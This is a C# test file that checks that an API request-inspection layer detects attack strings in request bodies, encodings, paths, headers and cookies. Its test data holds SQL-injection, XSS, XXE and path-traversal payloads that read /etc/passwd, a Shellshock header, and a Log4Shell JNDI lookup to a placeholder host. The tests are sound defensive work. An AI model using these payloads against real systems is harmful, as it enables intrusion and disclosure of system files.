using System.Net;
using System.Text;

namespace ApiSecurity.Tests.Validation.Inspection;

/// <summary>Every place of a request is looked at, in every encoding that the application would undo.</summary>
public sealed class InspectionPlaceTests
{
    private const string Attack = InspectedApp.Attack;

    private static readonly string Encoded = Uri.EscapeDataString(Attack);

    public static TheoryData<string, string> Bodies => new()
    {
        { "application/json", $$$"""{"a":{"note":[1,"{{{Attack}}}"]}}""" },
        { "application/json", """{"a":{"note":[1,"x\u0027 or \u00271\u0027=\u00271"]}}""" },
        { "application/merge-patch+json", $$"""{"note":"{{Attack}}"}""" },
        { "application/json", $$"""{"{{Attack}}":1}""" },
        { "application/json", $$"""{"note":"{{Attack}}",}""" },
        { "application/json", $$"""{note:"{{Attack}}"}""" },
        { "application/json", """{"filter":{"$where":"1"}}""" },
        { "application/json", """{"__proto__":{"isAdmin":true}}""" },
        { "application/x-www-form-urlencoded", $"a=1&note={Encoded}" },
        { "application/x-www-form-urlencoded", $"{Encoded}=1" },
        { "application/x-www-form-urlencoded", $"note=fine&note={Encoded}" },
        { "application/xml", $"<order><note>{Attack.Replace("'", "&#39;", StringComparison.Ordinal)}</note></order>" },
        { "application/xml", "<order note=\"&lt;script&gt;alert(1)&lt;/script&gt;\"/>" },
        { "text/xml", "<!DOCTYPE a [<!ENTITY x SYSTEM \"file:///etc/passwd\">]><a>&x;</a>" },
        { "text/plain", Attack },
        { "multipart/form-data; boundary=b", $"--b\r\nContent-Disposition: form-data; name=\"note\"\r\n\r\n{Attack}\r\n--b--\r\n" },
        { "multipart/form-data; boundary=b", "--b\r\nContent-Disposition: form-data; name=\"f\"; filename=\"../../../etc/passwd\"\r\n\r\nx\r\n--b--\r\n" },
    };

    [Theory]
    [MemberData(nameof(Bodies))]
    public async Task A_body_is_looked_through(string contentType, string body)
    {
        await using var app = await InspectedApp.StartAsync(blocks: true);
        using var request = Post(contentType, Encoding.UTF8.GetBytes(body));

        Assert.Equal(HttpStatusCode.Forbidden, (await app.SendAsync(request)).Status);
    }

    [Theory]
    [InlineData("utf-16")]
    [InlineData("utf-32")]
    [InlineData("iso-8859-1")]
    public async Task Another_charset_hides_nothing(string charset)
    {
        await using var app = await InspectedApp.StartAsync(blocks: true);
        using var request = Post($"application/json; charset={charset}", Encoding.GetEncoding(charset).GetBytes($$"""{"note":"{{Attack}}"}"""));

        Assert.Equal(HttpStatusCode.Forbidden, (await app.SendAsync(request)).Status);
    }

    [Fact]
    public async Task An_attack_at_the_end_of_a_long_value_is_found()
    {
        await using var app = await InspectedApp.StartAsync(blocks: true);
        using var request = Post("application/json", Encoding.UTF8.GetBytes($$"""{"note":"{{new string('a', 300_000)}} <script>alert(1)</script>"}"""));

        Assert.Equal(HttpStatusCode.Forbidden, (await app.SendAsync(request)).Status);
    }

    [Theory]
    [InlineData("/a?q=", "query:q")]
    [InlineData("/a?q=fine&q=", "query:q")]
    [InlineData("/a?=", "query:?")]
    [InlineData("/a/b/", "path")]
    public async Task What_is_in_the_target_is_told_with_its_place(string target, string place)
    {
        await using var app = await InspectedApp.StartAsync(blocks: false);

        Assert.Equal(HttpStatusCode.OK, (await app.GetAsync(target + Encoded)).Status);
        Assert.Equal($"sql.condition at {place}, score 5", (await app.NextInspectionAsync()).Detail);
    }

    [Theory]
    [InlineData("X-Note", Attack, "header:X-Note")]
    [InlineData("User-Agent", "() { :;}; /bin/cat /etc/passwd", "header:User-Agent")]
    [InlineData("Referer", "https://a.example/?q=<script>alert(1)</script>", "header:Referer")]
    [InlineData("Cookie", "a=1; note=" + Attack, "cookie:note")]
    [InlineData("X-Api-Version", "${jndi:ldap://a.example/x}", "header:X-Api-Version")]
    public async Task Headers_and_cookies_are_looked_at(string name, string value, string place)
    {
        await using var app = await InspectedApp.StartAsync(blocks: false);
        using var request = new HttpRequestMessage(HttpMethod.Get, "/a");
        request.Headers.TryAddWithoutValidation(name, value);

        Assert.Equal(HttpStatusCode.OK, (await app.SendAsync(request)).Status);
        Assert.Contains($" at {place}, score 5", (await app.NextInspectionAsync()).Detail, StringComparison.Ordinal);
    }

    [Fact]
    public async Task A_name_that_the_client_made_up_is_not_told()
    {
        await using var app = await InspectedApp.StartAsync(blocks: false);
        using var request = Post("application/json", Encoding.UTF8.GetBytes($$"""{"a":[{"{{Attack}}":{"b":"<script>alert(1)</script>"} }]}"""));

        await app.SendAsync(request);

        var told = new[] { await app.NextInspectionAsync(), await app.NextInspectionAsync() };
        Assert.All(told, one => Assert.DoesNotContain("'1'", one.Detail, StringComparison.Ordinal));
        Assert.Contains(told, one => one.Detail == "sql.condition at body:/a/0/?, score 5");
    }

    [Fact]
    public async Task The_endpoint_reads_the_same_body()
    {
        await using var app = await InspectedApp.StartAsync(blocks: false);
        var body = $$"""{"note":"{{Attack}}"}""";
        using var request = Post("application/json", Encoding.UTF8.GetBytes(body));

        Assert.Equal((HttpStatusCode.OK, body), await app.SendAsync(request));
    }

    internal static HttpRequestMessage Post(string contentType, byte[] body)
    {
        var content = new ByteArrayContent(body);
        content.Headers.TryAddWithoutValidation("Content-Type", contentType);
        return new HttpRequestMessage(HttpMethod.Post, "/a") { Content = content };
    }
}
